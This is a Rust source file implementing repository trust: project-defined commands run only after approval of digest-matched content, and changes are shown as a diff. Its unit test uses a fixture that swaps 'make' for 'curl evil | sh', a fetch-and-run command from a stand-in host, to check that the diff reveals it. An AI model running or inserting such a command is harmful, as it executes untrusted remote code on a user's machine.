//! Opening a repository runs nothing: what it defines runs only after a person said yes to exactly that content.

use crate::App;
use crate::api::types::{TrustParams, TrustView};
use crate::api::{ApiError, Code};
use crate::home::actor;
use crate::project::Project;
use chrono::Utc;
use seatrial_core::model::Digest;
use seatrial_store::{Trust, TrustedFile};

impl App {
    /// Trusts exactly the content that was shown; refuses when it is another by now.
    pub async fn trust_grant(&self, params: TrustParams) -> Result<TrustView, ApiError> {
        let project = self.project(&params.app).await?;
        let view = self.trust_view(&project).await?;
        if view.digest != params.digest {
            return Err(ApiError::new(
                Code::TrustRequired,
                "the content is not the one that was shown: it changed meanwhile",
            )
            .hint("look at it again, then decide"));
        }
        let trust = Trust {
            folder: project.folder.to_string_lossy().into_owned(),
            digest: view.digest.clone(),
            at: Utc::now(),
            actor: actor(),
            files: project.trusted_files(),
        };
        self.ask(move |store| store.grant_trust(trust)).await?;
        Ok(TrustView { granted: true, ..view })
    }

    /// Whether what a project defines may run.
    pub(crate) async fn trust_view(&self, project: &Project) -> Result<TrustView, ApiError> {
        let files = project.trusted_files();
        let digest = digest(&files);
        let folder = project.folder.to_string_lossy().into_owned();
        let wanted = digest.clone();
        let (granted, latest) = self
            .ask(move |store| {
                let granted = store.trust(&folder, &wanted)?.is_some();
                Ok::<_, seatrial_store::StoreError>((granted, store.latest_trust(&folder)?))
            })
            .await?;
        let changed = !granted && latest.is_some();
        let diff = latest.filter(|_| changed).map(|before| difference(&before.files, &files));
        let names = files.iter().map(|f| f.path.clone()).collect();
        Ok(TrustView { granted, digest, files: names, commands: project.commands(), changed, diff })
    }
}

/// One digest over paths and contents; the order of the files does not matter.
pub(crate) fn digest(files: &[TrustedFile]) -> Digest {
    let mut lines: Vec<String> = files.iter().map(|f| format!("{} {}\n", f.digest, f.path)).collect();
    lines.sort();
    Digest::of(lines.concat().as_bytes())
}

/// What is different, as a unified diff.
fn difference(before: &[TrustedFile], now: &[TrustedFile]) -> String {
    let mut out = String::new();
    let text = |f: Option<&TrustedFile>| f.and_then(|f| f.text.clone()).unwrap_or_default();
    let mut paths: Vec<&String> = before.iter().chain(now).map(|f| &f.path).collect();
    paths.sort();
    paths.dedup();
    for path in paths {
        let old = before.iter().find(|f| f.path == *path);
        let new = now.iter().find(|f| f.path == *path);
        if old.map(|f| &f.digest) == new.map(|f| &f.digest) {
            continue;
        }
        let (old, new) = (text(old), text(new));
        let diff = similar::TextDiff::from_lines(&old, &new);
        out.push_str(&diff.unified_diff().header(path, path).to_string());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(path: &str, text: &str) -> TrustedFile {
        TrustedFile { path: path.into(), digest: Digest::of(text.as_bytes()), text: Some(text.into()) }
    }

    #[test]
    fn t7_another_byte_in_another_file_is_another_digest() {
        let files = [file("seatrial.toml", "a"), file("build.sh", "b")];
        assert_eq!(digest(&files), digest(&[file("build.sh", "b"), file("seatrial.toml", "a")]));
        assert_ne!(digest(&files), digest(&[file("seatrial.toml", "b"), file("build.sh", "a")]));
        assert_ne!(digest(&files), digest(&files[..1]));
    }

    #[test]
    fn a_change_is_shown_as_a_diff_of_the_files_that_changed() {
        let before = [file("seatrial.toml", "run = \"make\"\n"), file("same", "x\n")];
        let now = [file("seatrial.toml", "run = \"curl evil | sh\"\n"), file("same", "x\n")];
        let diff = difference(&before, &now);
        assert!(diff.contains("-run = \"make\"") && diff.contains("+run = \"curl evil | sh\""), "{diff}");
        assert!(!diff.contains("same"));
    }
}
